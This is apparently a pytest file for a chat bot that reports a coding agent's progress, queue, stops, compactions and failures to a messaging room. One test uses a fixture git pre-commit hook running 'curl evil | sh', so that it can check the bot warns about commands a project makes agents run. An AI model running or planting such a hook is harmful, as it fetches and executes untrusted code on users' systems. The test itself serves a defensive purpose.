"""What a chat sees of a prompt, second by second: in line, at work, ended; and what rings."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import pytest

from bot.chat import Flood, Refused, Unknown, Why
from core.model.events import (
    Asked,
    AskKind,
    Compacted,
    Leftovers,
    Message,
    MessageDelta,
    Progress,
    Recovering,
    Resolved,
    SessionStarted,
    ToolCall,
    ToolKind,
    TurnStarted,
)
from core.model.ids import ItemId, SessionId
from core.model.prompt import Kind, Status
from core.model.repository import Order, OrderKind
from core.store import queue, repositories, turns
from core.store.turns import Ending
from tests.support import store as shelf
from tests.support.at_work import AtWork, at_work
from tests.support.fake_chat import ANN, FakeChat, Trouble
from tests.support.hand_clock import HandClock


def ran(title: str, item: str = "1") -> ToolCall:
    return ToolCall(ItemId(item), ToolKind.EXECUTE, title, Progress.COMPLETED)


@pytest.fixture
async def work(work: AtWork) -> AtWork:
    await work.project()
    return work


async def test_a_short_turn_is_its_answer_alone_in_reply_and_rings_once(work: AtWork) -> None:
    message = work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    await work.passes(1)
    await work.ends(started)
    await work.passes(5)
    assert work.chat.replies() == [("Done.", message)]
    assert work.chat.rung == ["Done."]
    assert [getattr(shown.what, "to", "") for shown in work.chat.shown.values()] == [ANN.id]
    assert len(work.chat.lines) == len(["writes", "acknowledge", "typing", "deliver"])


async def test_where_signs_cost_as_much_as_messages_an_answer_that_comes_at_once_is_alone(
    work: AtWork,
) -> None:
    work.chat.limits = replace(work.chat.limits, hold=0.5)
    work.chat.writes("Go")
    await work.passes(0.2)
    (started,) = await work.starts()
    await work.ends(started)
    await work.passes(5)
    assert (work.chat.calls("acknowledge", "typing"), len(work.chat.calls("deliver"))) == ([], 1)
    work.chat.writes("Go on")
    await work.passes()
    (started,) = await work.starts()
    await work.passes(1)
    await work.ends(started)
    await work.passes(5)
    assert [len(work.chat.calls(call)) for call in ("acknowledge", "typing", "deliver")] == [1, 1, 2]


async def test_a_question_is_settled_also_where_the_end_came_before_anybody_looked(work: AtWork) -> None:
    work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    await work.tells(started, TurnStarted(), Asked("q", AskKind.COMMAND, "git push", ()))
    await work.passes(2)
    await work.tells(started, Resolved("q"))
    await work.ends(started)
    await work.passes(5)
    (question,) = [said for said in work.chat.reads() if "git push" in said]
    assert "Nobody needs to answer this any more." in question


async def test_an_answer_without_a_word_is_told_all_the_same(work: AtWork) -> None:
    """Silence would look like a lost answer."""
    message = work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    await work.passes(1)
    await work.ends(started, Ending(Status.DONE, ""))
    await work.passes(5)
    assert work.chat.replies() == [("Done, without a word.", message)]


async def test_an_answer_that_was_shut_out_comes_once_its_room_is_heard_from(work: AtWork) -> None:
    """Somebody blocked the bot, or muted it, while it worked."""
    work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    await work.passes(1)
    work.chat.troubles = [Trouble(Refused("blocked by the user", Why.FORBIDDEN), call="deliver")]
    await work.ends(started)
    await work.passes(100)
    assert work.chat.reads() == []
    work.chat.writes("/queue")
    await work.passes(1)
    (late, now) = work.chat.reads()
    assert (late[-5:], now) == ("Done.", "Nothing waits here.")


async def test_after_a_second_and_a_half_one_silent_message_shows_it_and_the_clock_ticks(
    work: AtWork,
) -> None:
    work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    await work.tells(started, TurnStarted())
    await work.passes(1.3)
    assert work.chat.reads() == []
    await work.passes(0.2)
    assert (work.chat.reads(), work.chat.buttons()) == (["⏳ Codex · shop · 0:01"], ["Stop"])
    await work.passes(3.2)
    assert work.chat.reads() == ["⏳ Codex · shop · 0:04"]
    await work.tells(started, ran("pytest"))
    await work.passes(1)
    assert work.chat.reads()[0].endswith("\n✓ Ran pytest")
    await work.ends(started)
    assert work.chat.reads() == ["✓ 0:05 · 1 step", "Done."]
    assert (work.chat.buttons(), work.chat.rung) == (["Ask again"], ["Done."])


async def test_of_a_message_that_nobody_can_change_the_end_is_told_and_its_button_answers(
    work: AtWork,
) -> None:
    """Telegram showed it, and its answer with the message's name was lost."""
    work.chat.troubles = [Trouble(Unknown(), call="send", arrives=True)]
    work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    await work.passes(4)
    await work.ends(started)
    assert work.chat.reads() == [
        "⏳ Codex · shop · 0:01\nStarting …",
        "Done.",
        "✓ 0:04\nThis has ended, whatever a message above still says.",
    ]
    assert work.chat.rung == ["Done."]
    work.chat.presses("Stop")
    await work.passes(1)
    assert work.chat.reads()[-1] == "That had already ended."


async def test_the_marks_of_an_answer_are_in_the_language_of_its_room(work: AtWork) -> None:
    await work.store.write(lambda db: db.execute("UPDATE rooms SET language = 'fr'"))
    work.chat.troubles = [
        Trouble(Flood(600.0), call="deliver"),
        Trouble(Unknown(), call="deliver"),
        Trouble(Refused(why=Why.TEXT), call="deliver"),
    ]
    work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    await work.ends(started)
    await work.passes(610, step=10)
    (said,) = work.chat.reads()
    assert said.startswith("(de ")
    assert "(peut-être déjà reçu)" in said
    assert "Cette messagerie a refusé" in said


async def test_a_failure_after_half_an_answer_rings_once(work: AtWork) -> None:
    message = work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    await work.ends(started, Ending(Status.FAILED, "Half of it", reason="engine.login", detail="401"))
    (answer, trouble) = work.chat.replies()
    assert (answer[1], trouble[1]) == (message, message)
    assert "codex login" in trouble[0]
    assert len(work.chat.rung) == 1


async def test_typing_is_shown_while_it_works_and_never_after(work: AtWork) -> None:
    work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    await work.passes(9)
    assert len(work.chat.calls("typing")) == 3
    await work.store.write(turns.end, [shelf.step(started)], shelf.DONE, now=work.clock.now())
    await work.passes(20)
    kinds = [line.call for line in work.chat.lines]
    assert "typing" not in kinds[kinds.index("deliver") :]


async def test_what_waits_in_line_says_so_and_becomes_its_progress(work: AtWork) -> None:
    work.chat.writes("profile checkout")
    await work.passes()
    (first,) = await work.starts()
    work.chat.writes("fix the tests")
    await work.passes()
    assert work.chat.reads() == ["Second in line, after profile checkout."]
    assert work.chat.buttons() == ["Tell it now", "Remove"]
    await work.ends(first)
    (second,) = await work.starts()
    await work.passes(2)
    await work.ends(second)
    assert work.chat.reads() == ["✓ 0:02", "Done.", "Done."]


async def test_what_was_dropped_from_the_line_leaves_no_button_behind(work: AtWork) -> None:
    work.chat.writes("one")
    await work.passes()
    (first,) = await work.starts()
    work.chat.writes("two")
    await work.passes()
    work.chat.presses("Remove")
    await work.passes(2)
    waited, *_ = work.chat.reads()
    assert waited == "Removed before it began: two."
    await work.ends(first)
    assert work.chat.buttons() == ["Ask again"]
    assert [shown.what.buttons for shown in work.chat.shown.values() if shown.words == waited] == [()]


async def test_stop_keeps_what_was_said_and_tells_how_it_ended(work: AtWork) -> None:
    work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    await work.passes(3)
    work.chat.presses("Stop")
    await work.passes(1.5)
    assert "Stopping" in work.chat.reads()[-1]
    await work.ends(started, Ending(Status.DONE, "Half of it"))
    folded, answer, stopped = work.chat.reads()
    assert folded.startswith("■ 0:04")
    assert answer.startswith("Half of it")
    assert stopped.startswith("Stopped after 0:04, 0 steps done. Nothing is left running")


async def test_what_it_left_running_is_told_once_it_has_gone_and_holds_nothing_up(work: AtWork) -> None:
    work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    await work.store.write(turns.end, [shelf.step(started)], shelf.DONE, now=work.clock.now())
    await work.passes(1)
    assert work.chat.reads() == ["Done."]
    left = Leftovers(("sleep",), ended=True)
    await work.store.write(turns.note, shelf.step(started), left, now=work.clock.now())
    await work.store.write(queue.release, started.prompt.id)
    await work.passes(1)
    assert len(work.chat.reads()) == 2
    assert "sleep" in work.chat.reads()[-1]


async def test_a_restart_in_mid_turn_is_not_seen(tmp_path: Path, chat: FakeChat, clock: HandClock) -> None:
    async with at_work(tmp_path, chat, clock) as work:
        await work.project()
        chat.writes("Go")
        await work.passes()
        (started,) = await work.starts()
        step = shelf.step(started, offset=1)
        down = Recovering("interrupted")
        await work.store.write(turns.follow_up, [step], down, outcome="x", now=clock.now())
        await work.passes(3)
        before = chat.reads()
        assert len(before) == 2
    clock.move(10)
    async with at_work(tmp_path, chat, clock) as work:
        await work.passes(1.5)
        told, shown = chat.reads()
        assert told == before[0]
        assert shown.startswith("⏳ Codex · shop · 0:14")
        await work.ends(started)
        assert chat.reads() == [told, "✓ 0:14", "Done."]


async def test_a_turn_that_ended_while_roost_was_away_is_told_once(
    tmp_path: Path, chat: FakeChat, clock: HandClock
) -> None:
    async with at_work(tmp_path, chat, clock) as work:
        await work.project()
        chat.writes("Go")
        await work.passes()
        (started,) = await work.starts()
        await work.passes(2)
    async with at_work(tmp_path, FakeChat(clock=clock, account="another"), clock) as other:
        await other.ends(started)
    for _ in range(2):
        async with at_work(tmp_path, chat, clock) as work:
            await work.passes()
    assert chat.reads() == ["✓ 0:02", "Done."]


async def test_what_a_project_makes_agents_run_is_told_once_without_a_ring(
    tmp_path: Path, chat: FakeChat, clock: HandClock
) -> None:
    hook = {"key": Order(OrderKind.GIT, ".git/hooks/pre-commit", "curl evil | sh")}
    async with at_work(tmp_path, chat, clock) as work:
        await work.project()
        chat.writes("Go")
        await work.passes()
        (started,) = await work.starts()
        step, project = shelf.step(started), started.project.id
        await work.store.write(repositories.keep, step, project, "m1", hook, now=clock.now())
        await work.passes(1)
    head = "⚠️ shop holds what agents run or obey by themselves:"
    said = f"{head}\n· .git/hooks/pre-commit has git run curl evil | sh"
    assert chat.reads() == [said]
    async with at_work(tmp_path, chat, clock) as work:
        await work.passes(1)
        await work.store.write(repositories.keep, step, project, "m2", hook, now=clock.now())
        await work.ends(started)
        await work.passes(1)
    assert chat.reads() == [said, "✓ 0:02", "Done."]
    assert chat.rung == ["Done."]


async def test_an_answer_grows_beneath_the_steps_and_comes_once(work: AtWork) -> None:
    work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    await work.tells(started, TurnStarted(), ran("pytest"), delta("It is **sl"))
    await work.passes(2)
    assert work.chat.reads() == ["⏳ Codex · shop · 0:01\n✓ Ran pytest\n\nIt is sl…"]
    await work.tells(started, delta("ow** because of `a.p"))
    await work.passes(1.1)
    assert work.chat.reads()[0].split("\n")[1:] == ["✓ Ran pytest", "", "It is slow because of a.p…"]
    await work.tells(started, delta("y`."), Message(ItemId("2"), "It is **slow** because of `a.py`."))
    await work.ends(started, Ending(Status.DONE, "It is **slow** because of `a.py`."))
    await work.passes(2)
    assert work.chat.reads() == ["✓ 0:03 · 1 step", "It is slow because of a.py."]
    assert work.chat.rung == ["It is slow because of a.py."]
    assert len(work.chat.calls("send")) == 1


@pytest.mark.parametrize("sign", ["word", "👍"])
async def test_of_a_long_answer_the_newest_end_is_seen_and_all_of_it_comes(work: AtWork, sign: str) -> None:
    work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    words = shown = ""
    for n in range(8):
        more = f"{sign} " * 250 + f"{n}\n\n"
        words += more
        await work.tells(started, *([] if n else [TurnStarted()]), delta(more))
        await work.passes(2)
        (shown,) = work.chat.reads()
        assert shown.endswith(f"{sign} {n}…")
    assert re.search(rf"\n\n…(\n\n)?{sign} ", shown)
    assert work.chat.rung == []
    await work.ends(started, Ending(Status.DONE, words))
    await work.passes(2)
    assert " ".join(work.chat.reads()[1:]).split() == words.split()


def delta(text: str) -> MessageDelta:
    return MessageDelta(ItemId("2"), text)


async def test_a_compaction_that_comes_by_itself_is_one_message_that_says_what_it_came_to(
    work: AtWork,
) -> None:
    work.chat.writes("/settings auto-compact on")
    work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    await work.tells(started, SessionStarted(SessionId("s1")))
    await work.ends(started, Ending(Status.DONE, "Done.", full=True))
    (compacting,) = await work.starts()
    assert compacting.prompt.kind is Kind.COMPACT
    await work.passes(2)
    assert work.chat.reads()[1:] == ["Done.", "⏳ Codex · shop · 0:01\nCompacting …"]
    await work.tells(compacting, Compacted(182_000, 31_000))
    await work.ends(compacting, Ending(Status.DONE))
    await work.passes(2)
    assert work.chat.reads()[1:] == ["Done.", "Compacted: 182k → 31k tokens, 1 turn."]
    assert work.chat.rung == ["Done."]


async def test_a_compaction_that_nothing_showed_says_what_it_came_to_all_the_same(work: AtWork) -> None:
    work.chat.writes("/settings auto-compact on")
    work.chat.writes("Go")
    await work.passes()
    (started,) = await work.starts()
    await work.tells(started, SessionStarted(SessionId("s1")))
    await work.ends(started, Ending(Status.DONE, "Done.", full=True))
    (compacting,) = await work.starts()
    await work.ends(compacting, Ending(Status.DONE))
    await work.passes(2)
    assert work.chat.reads()[1:] == ["Done.", "Compacted: 1 turn."]
